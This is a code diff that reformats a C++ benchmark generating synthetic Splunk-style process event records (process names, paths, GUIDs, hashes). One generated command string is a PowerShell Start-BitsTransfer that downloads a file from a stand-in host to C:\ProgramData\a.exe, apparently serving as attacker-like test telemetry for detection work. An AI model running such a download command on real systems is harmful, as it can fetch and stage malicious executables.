@@ -10,11 +10,25 @@
 namespace bench {
 namespace {
 
-constexpr std::array<std::string_view, 19> kColumns = {
-    "_time", "dest", "user", "process_name", "process", "process_path", "process_id",
-    "process_guid", "original_file_name", "process_hash", "process_current_directory",
-    "process_integrity_level", "parent_process_name", "parent_process", "parent_process_path",
-    "parent_process_id", "parent_process_guid", "signature_id", "source_dataset"};
+constexpr std::array<std::string_view, 19> kColumns = {"_time",
+                                                       "dest",
+                                                       "user",
+                                                       "process_name",
+                                                       "process",
+                                                       "process_path",
+                                                       "process_id",
+                                                       "process_guid",
+                                                       "original_file_name",
+                                                       "process_hash",
+                                                       "process_current_directory",
+                                                       "process_integrity_level",
+                                                       "parent_process_name",
+                                                       "parent_process",
+                                                       "parent_process_path",
+                                                       "parent_process_id",
+                                                       "parent_process_guid",
+                                                       "signature_id",
+                                                       "source_dataset"};
 
 constexpr std::array<std::string_view, 6> kCommands = {
     R"("C:\Program Files\Example\Agent\agent.exe" --type=utility --field-trial-handle=1840,9 --lang=de)",
@@ -50,15 +64,27 @@ std::string process_events(std::size_t rows) {
       process = R"(powershell -c "Start-BitsTransfer -Source http://cdn.example.net/)" + number +
                 R"( -Destination C:\ProgramData\a.exe")";
     }
-    const std::string hash = "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17" +
-                             number;
-    const std::array<std::string, 19> fields = {
-        "1700000000." + number.substr(0, 3), "WKS-" + number + ".corp.example", "CORP\\user" + number,
-        "agent.exe", process, "C:\\Program Files\\Example\\Agent\\agent.exe", number,
-        "{19b6e1a3-7ac1-6553-0000-0010" + number + "}", "agent.exe", hash,
-        "C:\\Windows\\system32\\", "high", "services.exe", "C:\\Windows\\System32\\services.exe",
-        "C:\\Windows\\System32\\services.exe", "644", "{19b6e1a3-7ac1-6553-0000-0010e8030000}", "1",
-        "bench"};
+    const std::string hash =
+        "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17" + number;
+    const std::array<std::string, 19> fields = {"1700000000." + number.substr(0, 3),
+                                                "WKS-" + number + ".corp.example",
+                                                "CORP\\user" + number,
+                                                "agent.exe",
+                                                process,
+                                                "C:\\Program Files\\Example\\Agent\\agent.exe",
+                                                number,
+                                                "{19b6e1a3-7ac1-6553-0000-0010" + number + "}",
+                                                "agent.exe",
+                                                hash,
+                                                "C:\\Windows\\system32\\",
+                                                "high",
+                                                "services.exe",
+                                                "C:\\Windows\\System32\\services.exe",
+                                                "C:\\Windows\\System32\\services.exe",
+                                                "644",
+                                                "{19b6e1a3-7ac1-6553-0000-0010e8030000}",
+                                                "1",
+                                                "bench"};
     for (const std::string& field : fields) {
       splunk::records::append_field(out, field);
       out.append(',');
